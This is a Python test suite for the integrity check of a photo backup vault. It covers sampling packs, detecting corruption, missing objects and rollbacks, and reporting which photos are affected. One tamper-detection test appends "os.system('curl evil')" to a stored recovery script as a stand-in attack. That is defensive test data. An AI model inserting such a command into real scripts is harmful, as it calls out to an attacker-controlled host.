"""A check says what is wrong, where, which files it costs and what to do, and changes nothing."""

from __future__ import annotations

from fractions import Fraction
from random import Random
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from photovault.check import Amount, parse_amount, plan_check, scrub
from photovault.errors import MissingError, UnavailableError, UsageError
from photovault.storage.memory import MemoryStorage
from photovault.vault import format as fmt
from photovault.vault.format import ObjectKind, PartKind
from photovault.vault.pack import open_object
from photovault.vault.vault import no_unpack
from photovault.workers import Workers
from tests.support.album import store_album
from tests.support.devices import PASSWORD, Computer, Silent
from tests.support.faults import FaultyStorage
from tests.support.photos import put
from tests.support.world import WORDS
from tests.vault.some import Codec
from tests.vectors import make

if TYPE_CHECKING:
    from pathlib import Path

    from photovault.check import CheckReport
    from photovault.model import Finding

# How much to read


@pytest.mark.parametrize(
    ("text", "amount"),
    [
        ("all", Amount(share=1.0)),
        ("none", Amount(share=0.0)),
        ("10%", Amount(share=0.1)),
        ("100%", Amount(share=1.0)),
        ("0.5%", Amount(share=0.005)),
        ("0%", Amount(share=0.0)),
        ("5G", Amount(size=5 * 10**9)),
        ("0", Amount(size=0)),
    ],
)
def test_an_amount_is_a_word_a_share_or_a_size(text: str, amount: Amount) -> None:
    assert parse_amount(text) == amount


@pytest.mark.parametrize(
    "text", ["", "ALL", "101%", "100.1%", "-1%", "%", "1e3%", "½", "5 %", "G", "-5G", "9" * 5000, "nan%"]
)
def test_what_is_no_amount_is_refused(text: str) -> None:
    with pytest.raises(UsageError, match="not an amount of data") as caught:
        parse_amount(text)
    assert "percentage" in caught.value.hint


PACKS = st.dictionaries(st.binary(min_size=32, max_size=32), st.sampled_from([2**14, 2**20, 2**24]), max_size=40)


@given(packs=PACKS, percent=st.integers(0, 100), seed=st.binary(max_size=4))
def test_a_share_of_the_packs_is_chosen(packs: dict[bytes, int], percent: int, seed: bytes) -> None:
    chosen = plan_check(packs, Amount(share=percent / 100), seed)
    assert chosen == sorted(chosen)
    assert dict(chosen).items() <= packs.items()
    exact = Fraction(percent, 100) * len(packs)
    assert exact <= len(chosen) < exact + 1, "rounded up: a share of anything is at least one pack"


@given(packs=PACKS, size=st.integers(0, 2**30), seed=st.binary(max_size=4))
def test_so_many_bytes_are_chosen(packs: dict[bytes, int], size: int, seed: bytes) -> None:
    chosen = plan_check(packs, Amount(size=size), seed)
    total = sum(found for _, found in chosen)
    assert dict(chosen).items() <= packs.items()
    assert total >= size or len(chosen) == len(packs)
    assert total < size + 2**24 or not chosen


def test_another_day_another_sample_until_all_were_read() -> None:
    packs = {bytes([n]) * 32: 2**24 for n in range(20)}
    samples = [frozenset(plan_check(packs, Amount(share=0.25), bytes([day]))) for day in range(60)]
    assert len(set(samples)) > 50
    assert frozenset().union(*samples) == set(packs.items())
    assert samples[3] == frozenset(plan_check(packs, Amount(share=0.25), bytes([3])))


# What it finds


@pytest.fixture
def photos(tmp_path: Path) -> Path:
    for name in ("a.jpg", "b.jpg", "inner/c.jpg"):
        put(tmp_path / "Pictures" / name, Random(name).randbytes(20_000))
    return tmp_path / "Pictures"


@pytest.fixture
def storage() -> MemoryStorage:
    return MemoryStorage()


@pytest.fixture
def computer(tmp_path: Path, storage: MemoryStorage, photos: Path) -> Computer:
    """Two snapshots, the second with one more photo."""
    made = Computer(tmp_path / "device", "memory:")
    made.make_vault(storage, password=PASSWORD)
    made.backup(photos, storage=storage)
    put(photos / "new.jpg", Random(9).randbytes(20_000))
    made.backup(photos, storage=storage)
    return made


def names(storage: MemoryStorage, prefix: str) -> list[str]:
    return sorted(name for name in storage.objects if name.startswith(prefix))


def only(report: CheckReport) -> Finding:
    (finding,) = report.findings
    return finding


def spoil(storage: MemoryStorage, name: str, at: int) -> None:
    data = bytearray(storage.objects[name])
    data[at] ^= 1
    storage.objects[name] = bytes(data)


def test_a_whole_vault_is_counted(computer: Computer, storage: MemoryStorage) -> None:
    report = computer.check(storage)
    assert report.findings == ()
    assert (report.snapshots, report.slots) == (2, 3)
    assert report.packs == report.packs_read == len(names(storage, "packs/"))
    assert report.bytes_read == sum(len(storage.objects[name]) for name in names(storage, "packs/"))
    structure = computer.check(storage, "none")
    assert (structure.findings, structure.packs_read, structure.bytes_read) == ((), 0, 0)


def test_a_check_of_the_structure_reads_no_photo(computer: Computer, storage: MemoryStorage) -> None:
    watched = _Watched(storage)
    computer.check(watched, "none")
    assert watched.got
    assert not any(length and length > 8_000 for _, length in watched.got)
    assert (watched.puts, watched.deleted) == ([], [])


def test_a_check_changes_nothing_even_where_it_finds_something(computer: Computer, storage: MemoryStorage) -> None:
    spoil(storage, names(storage, "packs/")[0], 5_000)
    spoil(storage, names(storage, "snapshots/")[0], 5_000)
    before, watched = dict(storage.objects), _Watched(storage)
    assert computer.check(watched).findings
    assert (watched.puts, watched.deleted) == ([], [])
    assert storage.objects == before


class _Watched(FaultyStorage):
    """Remembers what was read and removed."""

    def __init__(self, inner: MemoryStorage) -> None:
        super().__init__(inner)
        self.got: list[tuple[str, int | None]] = []
        self.deleted: list[str] = []

    def get(self, name: str, offset: int = 0, length: int | None = None) -> bytes:
        if name.startswith("packs/"):
            self.got.append((name, length))
        return super().get(name, offset, length)

    def delete(self, name: str) -> None:
        self.deleted.append(name)
        super().delete(name)


def test_a_damaged_pack_names_the_photos_it_costs_and_no_others(computer: Computer, storage: MemoryStorage) -> None:
    large = max(names(storage, "packs/"), key=lambda name: len(storage.objects[name]))
    spoil(storage, large, 200)
    finding = only(computer.check(storage))
    assert finding.where == large
    assert "not those it was stored with" in finding.what
    assert finding.hint
    files = {file.partition(":")[2] for file in finding.files}
    assert len(files) == 1
    assert files < {"Pictures/a.jpg", "Pictures/b.jpg", "Pictures/inner/c.jpg"}
    assert {file.partition(":")[0] for file in finding.files} == {id_[:8] for id_ in computer.snapshots(storage)}
    assert [one.where for one in computer.check(storage, "none").findings] == [large], (
        "what was seen once is looked at again"
    )


def test_damage_to_padding_is_found_and_costs_nothing(computer: Computer, storage: MemoryStorage) -> None:
    small = min(names(storage, "packs/"), key=lambda name: len(storage.objects[name]))
    size = len(storage.objects[small])
    spoil(storage, small, size - size // 8)
    finding = only(computer.check(storage))
    assert (finding.where, finding.files) == (small, ())


def test_a_missing_pack_names_the_photos_it_costs(computer: Computer, storage: MemoryStorage) -> None:
    large = max(names(storage, "packs/"), key=lambda name: len(storage.objects[name]))
    del storage.objects[large]
    for data in ("none", "all"):
        findings = computer.check(storage, data).findings
        assert findings
        assert any("Pictures" in file for finding in findings for file in finding.files)


@pytest.mark.parametrize("which", [0, 1])
def test_a_removed_slot_is_missed_and_a_new_one_is_not_asked_for(
    computer: Computer, storage: MemoryStorage, which: int
) -> None:
    slot = names(storage, "keys/")[which]
    with computer.app(storage).session() as session:
        opened_by = session.slot.name
    if slot == opened_by:
        slot = names(storage, "keys/")[2]
    del storage.objects[slot]
    finding = only(computer.check(storage, "none"))
    assert (finding.where, finding.what) == (slot, "it is missing")
    assert "back up once" in finding.hint


def test_a_slot_that_was_removed_by_its_owner_is_not_missed(computer: Computer, storage: MemoryStorage) -> None:
    from photovault.app import keys

    (password,) = [one for one in keys.list_keys(computer.app(storage))[0] if one.kind == "password"]
    keys.remove_key(computer.app(storage), password.slot_id)
    assert computer.check(storage).findings == ()
    keys.add_key(computer.app(storage), "password", "another password for tests")
    assert computer.check(storage).findings == ()
    assert computer.check(storage).slots == 3


def test_a_changed_document_is_found(computer: Computer, storage: MemoryStorage) -> None:
    storage.objects["recover.py"] += b"import os; os.system('curl evil')\n"
    finding = only(computer.check(storage, "none"))
    assert finding.where == "recover.py"
    assert "do not trust it" in finding.hint


def test_an_older_state_is_found_by_whoever_saw_the_newer_one(
    tmp_path: Path, computer: Computer, storage: MemoryStorage
) -> None:
    newest = computer.snapshots(storage)[-1]
    del storage.objects[f"snapshots/{newest}"]
    finding = only(computer.check(storage, "none"))
    assert "shows an older state" in finding.what
    assert finding.where == f"snapshots/{newest}"
    stranger = Computer(tmp_path / "stranger", "memory:")
    (tmp_path / "words").write_text(_words())
    assert stranger.check(storage, "none", words_file=str(tmp_path / "words")).findings == ()


def test_a_snapshot_missing_inside_the_chain_is_found_by_anybody(
    tmp_path: Path, computer: Computer, storage: MemoryStorage
) -> None:
    oldest = computer.snapshots(storage)[0]
    del storage.objects[f"snapshots/{oldest}"]
    stranger = Computer(tmp_path / "stranger", "memory:")
    (tmp_path / "words").write_text(_words())
    finding = only(stranger.check(storage, "none", words_file=str(tmp_path / "words")))
    assert finding.where == f"snapshots/{oldest}"
    assert "number 1) is missing" in finding.what


def _words() -> str:
    from photovault.crypto.words import to_words

    return " ".join(to_words(WORDS))


def test_what_was_remembered_is_still_compared_with_what_is_there(computer: Computer, storage: MemoryStorage) -> None:
    """The device knows its index and snapshots by heart; the next computer will not."""
    assert computer.check(storage).findings == ()
    spoilt = [names(storage, "index/")[0], names(storage, "snapshots/")[1]]
    for name in spoilt:
        spoil(storage, name, 9_000)
    assert {finding.where for finding in computer.check(storage).findings} == set(spoilt)
    assert {finding.where for finding in computer.check(storage, "1%").findings} == set(spoilt)


# Storages that fail


def test_a_storage_that_cannot_be_reached_is_no_damage(computer: Computer, storage: MemoryStorage) -> None:
    for on in ("get", "listing"):
        number = 0
        while True:
            number += 1
            failing = FaultyStorage(storage, at=number, fault=lambda: UnavailableError("gone"), on=(on,))
            try:
                report = computer.check(failing)
            except UnavailableError:
                continue
            assert report.findings == ()
            break
        assert number > 4


def test_a_sector_that_cannot_be_read_is_a_finding_and_the_check_goes_on(
    computer: Computer, storage: MemoryStorage
) -> None:
    """Storages say MissingError of an object whose bytes they cannot give."""

    class Failing(FaultyStorage):
        def get(self, name: str, offset: int = 0, length: int | None = None) -> bytes:
            if name == bad:
                raise MissingError(f"{name} cannot be read: Input/output error")
            return super().get(name, offset, length)

    for bad in [*names(storage, "packs/"), *names(storage, "snapshots/"), *names(storage, "index/")]:
        report = computer.check(Failing(storage))
        assert bad in {finding.where for finding in report.findings}
        assert report.packs_read == report.packs


# Without a key


def test_scrub_needs_no_key_and_names_what_differs(computer: Computer, storage: MemoryStorage) -> None:
    with Workers(2) as workers:
        clean = scrub(storage, workers, Silent())
        assert clean.findings == ()
        sealed = [*names(storage, "packs/"), *names(storage, "index/"), *names(storage, "snapshots/")]
        assert clean.packs == len(sealed)
        assert clean.bytes_read == sum(len(storage.objects[name]) for name in sealed)
        for name in sealed:
            spoil(storage, name, -1)
        report = scrub(storage, workers, Silent())
        assert sorted(finding.where for finding in report.findings) == sorted(sealed)


def test_scrub_leaves_other_things_alone(storage: MemoryStorage) -> None:
    storage.objects |= {"note.txt": b"x", "packs/ab/x": b"y", "keys/" + "00" * 16: b"z", "packs/.DS_Store": b""}
    with Workers(2) as workers:
        assert scrub(storage, workers, Silent()).packs == 0


# Thumbnails, and parts that are stored together


@pytest.fixture
def album(tmp_path: Path, storage: MemoryStorage, monkeypatch: pytest.MonkeyPatch) -> Computer:
    """A vault with a photo in a group and one that is plain; nothing can decode the group."""
    monkeypatch.setattr("photovault.app.session._unpacker", lambda _stack: no_unpack)
    made = Computer(tmp_path / "album", "memory:")
    made.make_vault(storage, password=PASSWORD)
    with made.app(storage).session() as session:
        store_album(session, Codec())
    return made


def pack_with(computer: Computer, storage: MemoryStorage, kind: PartKind, codec: int = 0) -> tuple[str, int]:
    """The pack with a part of this kind and codec, and where that part lies."""
    with computer.app(storage).session() as session:
        keyring = session.vault.keyring
    for name in names(storage, "packs/"):
        for region in open_object(keyring, ObjectKind.PACK, storage.objects[name]).regions:
            if (region.record.kind, region.record.codec) == (kind, codec):
                return name, region.offset
    raise AssertionError("there is none")


def test_a_whole_vault_is_checked_without_a_decoder(album: Computer, storage: MemoryStorage) -> None:
    report = album.check(storage)
    assert (report.findings, report.files, report.packs_read) == ((), 2, 2)


@pytest.mark.parametrize("codec", [3, 4])
def test_damage_in_a_group_names_the_photo_and_no_other(album: Computer, storage: MemoryStorage, codec: int) -> None:
    name, at = pack_with(album, storage, PartKind.CONTENT, codec)
    spoil(storage, name, at + 7)
    finding = only(album.check(storage))
    assert (finding.where, [file.partition(":")[2] for file in finding.files]) == (name, ["Pictures/packed.jpg"])


def test_damage_beside_a_group_leaves_it_whole(album: Computer, storage: MemoryStorage) -> None:
    name, at = pack_with(album, storage, PartKind.CONTENT)
    spoil(storage, name, at)
    assert [file.partition(":")[2] for file in only(album.check(storage)).files] == ["Pictures/plain.jpg"]


def test_a_share_that_is_not_what_its_digest_says_is_damage(
    album: Computer, storage: MemoryStorage, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Sealed as it should be, but not the bytes that were decoded and compared: a bit that flipped before they were sealed."""
    with album.app(storage).session() as session:
        monkeypatch.setattr(make, "FIRST", session.vault.keyring)
        monkeypatch.setattr(make, "VAULT", session.vault.keyring.vault_id)
        record, share = make.group([make.JPEG], 0, session.vault.keyring)[0]
        data = make.by_hand([(record, share[:-1] + bytes([share[-1] ^ 1]))])
        name = fmt.object_name(ObjectKind.PACK, session.vault.send(ObjectKind.PACK, data))
    assert only(album.check(storage)).where == name


@pytest.mark.parametrize("data", ["none", "all"])
def test_a_lost_pack_of_thumbnails_costs_no_photo(album: Computer, storage: MemoryStorage, data: str) -> None:
    name, _ = pack_with(album, storage, PartKind.THUMBNAIL)
    del storage.objects[name]
    (finding,) = [one for one in album.check(storage, data).findings if "thumbnail" in one.what]
    assert finding.files == ()
    assert "thumbnails that are lost: 2" in finding.what
    assert "no photo is lost" in finding.hint


def test_damage_to_a_thumbnail_costs_no_photo(album: Computer, storage: MemoryStorage) -> None:
    name, at = pack_with(album, storage, PartKind.THUMBNAIL)
    spoil(storage, name, at)
    finding = only(album.check(storage))
    assert (finding.where, finding.files) == (name, ())
    assert "thumbnails that are lost: 1" in finding.what
    assert "next backup" in finding.hint
